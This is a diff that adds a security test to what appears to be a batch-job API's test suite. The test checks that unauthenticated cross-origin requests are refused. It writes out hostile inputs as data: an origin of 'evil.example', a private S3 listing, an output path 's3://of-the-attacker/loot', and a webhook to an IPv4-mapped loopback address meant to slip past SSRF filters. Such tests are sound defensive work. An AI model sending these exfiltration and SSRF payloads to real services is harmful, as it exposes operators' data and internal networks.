@@ -73,6 +73,23 @@ def lose_results(api: ReportedApi) -> list[Any]:
     return ends
 
 
+def submit_as_a_page(api: ReportedApi) -> list[bool]:
+    """Submit as a web page does, which has no token: nothing may be listed, written or called with the operator's."""
+    sources = {"paths": ["s3://private/"], "batch_size": 1}
+    items = {"items": [1], "batch_size": 1}
+    found = []
+    for query, fields in (
+        ("?dryRun=true", {"file_path_lister": sources}),
+        ("", {"delimited_files": sources}),
+        ("", {"item_list": items, "output": "s3://of-the-attacker/loot"}),
+        ("", {"item_list": items, "webhook": "http://[::ffff:127.0.0.1]:9/internal"}),
+    ):
+        sent = {"content_type": "text/plain", "origin": "http://evil.example"}
+        answer = api.post({"workers": 1, **fields}, query, **sent)
+        found.append(answer.status == 400 and b"not open to this endpoint; use `cortex submit`, or add" in answer.body)
+    return found
+
+
 REPORTS = [
     Report(
         "a result that JSON can't hold fails its item if the job has an output",
@@ -92,6 +109,14 @@ REPORTS = [
             ["succeeded", []],
             [],
         ],
+        BATCH,
+    ),
+    Report(
+        "callers of an endpoint use neither the credentials nor the network of the operator",
+        "X1",
+        SOURCE,
+        submit_as_a_page,
+        [True] * 4,
         BATCH,
     ),
     Report(
